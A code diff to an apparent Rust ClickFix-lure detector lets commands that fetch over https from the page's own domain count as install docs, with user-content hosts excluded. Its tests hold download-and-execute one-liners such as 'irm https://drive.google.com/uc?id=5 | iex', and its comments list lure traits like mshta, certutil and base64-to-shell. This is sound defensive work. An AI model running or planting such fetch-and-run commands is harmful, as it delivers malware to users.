@@ -13,6 +13,7 @@
 //!   trick. A developer page with a copy button for `curl … | sh` or `npm install` has none of
 //!   these and stays silent.
 
+use super::domain::{host_of, is_user_content, registrable};
 use super::lexicon::{lexicon, Cat, Hit};
 use super::normalize::{is_invisible, normalize};
 use super::weights::{
@@ -145,6 +146,9 @@ pub struct Command {
     /// Every address it fetches is how installers are published: https, a host name, and a
     /// named `.ps1` script or `.msi` package (or the site's root, `get.example.sh`).
     published: bool,
+    /// The registrable domains it fetches from, when every address is `https://` to a host
+    /// name (empty otherwise).
+    https_sites: Vec<String>,
 }
 
 impl Command {
@@ -163,8 +167,8 @@ impl Command {
     /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
     /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
     /// shell or goes through mshta, regsvr32, certutil … is never documentation.
-    pub fn install_like(&self) -> bool {
-        self.published
+    pub fn install_like(&self, page_site: &str) -> bool {
+        (self.published || self.fetches_from_site(page_site))
             && self.shapes.iter().all(|s| match s {
                 Shape::PowerShellDownload
                 | Shape::PowerShell
@@ -176,6 +180,14 @@ impl Command {
                     .any(|w| has(&self.flat, w)),
                 _ => false,
             })
+    }
+
+    /// Fetches only from the page's own site over https: a project's docs serve its installer
+    /// under any path (`irm https://example.com/win | iex` on example.com).
+    fn fetches_from_site(&self, page_site: &str) -> bool {
+        !page_site.is_empty()
+            && !self.https_sites.is_empty()
+            && self.https_sites.iter().all(|s| s == page_site)
     }
 
     pub fn windows_payload(&self) -> bool {
@@ -566,6 +578,23 @@ pub fn recognise(raw: &str) -> Option<Command> {
         comment: defang(&comment.chars().take(60).collect::<String>()),
         flat: flatten(cmd_part),
         published: published(&flat, windows),
+        https_sites: if published(&flat, false) {
+            tokens(&flat)
+                .iter()
+                .filter(|t| t.contains("://"))
+                .map(|t| {
+                    let host = host_of(t);
+                    // A user-content host is nobody's own site: it never matches the page's.
+                    if is_user_content(&host) {
+                        String::from("-")
+                    } else {
+                        registrable(&host)
+                    }
+                })
+                .collect()
+        } else {
+            Vec::new()
+        },
     })
 }
 
@@ -665,6 +694,8 @@ pub struct PageHits {
     hits: Vec<Hit>,
     /// The page's text flattened like a command: finds a command the page shows as it copies it.
     flat: String,
+    /// The page's registrable domain, when known.
+    site: String,
 }
 
 impl PageHits {
@@ -708,7 +739,24 @@ impl PageHits {
                 )
             })
             .collect();
-        PageHits { base, hits, flat }
+        PageHits {
+            base,
+            hits,
+            flat,
+            site: String::new(),
+        }
+    }
+
+    /// The page's address: a command fetching from the page's own site is how a project's
+    /// docs publish their installer.
+    /// Hosts that serve anyone's content (sites.google.com next to drive.google.com) have no
+    /// site of their own here.
+    pub fn on(mut self, url: &str) -> PageHits {
+        let host = host_of(url);
+        if !is_user_content(&host) {
+            self.site = registrable(&host);
+        }
+        self
     }
 
     /// The page shows the command it copies (a code block next to its copy button): what the
@@ -882,7 +930,7 @@ pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
     let parts = [snap.title.as_str(), snap.text.as_str()]
         .into_iter()
         .chain(snap.alt_texts.iter().map(String::as_str));
-    assess_command(command, &PageHits::new(parts))
+    assess_command(command, &PageHits::new(parts).on(&snap.url))
 }
 
 fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
@@ -897,7 +945,7 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
     // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
     // are documentation; a lure always adds its story (verify, fix, update, open the file).
-    let docs = command.install_like() && page.documents_install(&command);
+    let docs = command.install_like(&page.site) && page.documents_install(&command);
     let windows_run = run_dialog && command.windows_payload() && !docs;
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
     // Terminal"); only a strong shape outside install docs makes them ClickFix. A story does
@@ -1396,6 +1444,25 @@ mod tests {
         ] {
             assert!(!judged(clip, text), "{text}");
         }
+        // A project's docs serve their installer from their own site under any path; another
+        // site's unnamed path is how lures fetch.
+        let site = |url: &str, clip: &str, text: &str| {
+            assess(clip, &PageHits::new([text]).on(url)).is_some()
+        };
+        let admin = "Install: right-click Start, choose Terminal (Admin), paste and press Enter.";
+        let own = "irm https://toolbox.example/win | iex";
+        assert!(!site("https://docs.toolbox.example/start", own, admin));
+        assert!(site("https://docs.other.example/start", own, admin));
+        assert!(site(
+            "https://sites.google.com/view/x",
+            "irm https://drive.google.com/uc?id=5 | iex",
+            admin
+        ));
+        assert!(site(
+            "https://docs.toolbox.example/start",
+            "irm http://toolbox.example/win | iex",
+            admin
+        ));
         // An infection named as a product is no story; one claimed about this PC is.
         assert!(!judged(
             clip,
